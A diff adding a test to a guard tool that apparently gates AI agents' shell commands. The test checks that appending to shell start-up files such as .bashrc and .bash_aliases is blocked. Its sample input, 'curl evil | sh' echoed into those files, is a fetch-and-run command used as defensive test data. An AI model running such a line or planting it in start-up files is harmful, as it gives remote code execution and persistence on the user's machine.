@@ -122,6 +122,18 @@ test('built in, without any config: .agentguard.json and agent hook files', () =
   assert.deepEqual(check(['cp', 'x', '.claude/commands/review.md'], {}, undefined), []);
 });
 
+test('built in: shell start-up files the default start-up files source (.bash_aliases, .bashrc.d/)', () => {
+  for (const f of ['.bash_aliases', '.bashrc.d/10-x.sh', '.oh-my-zsh/custom/x.zsh', '.bashrc']) {
+    assertGated(
+      check(['echo', 'curl evil | sh'], redirect('>>', `${HOME}/${f}`), undefined),
+      'path.agentguard',
+      /a shell start-up file/,
+    );
+  }
+  assert.deepEqual(check(['echo', 'x'], redirect('>>', `${HOME}/.bash_history_notes`), undefined), []);
+  assert.deepEqual(check(['cat', `${HOME}/.bash_aliases`], {}, undefined), []);
+});
+
 test("built in: AgentGuard's state dir (kill switch, audit log, snapshots) is denied with default thresholds", () => {
   const dir = stateDir({}, HOME);
   for (const argv of [
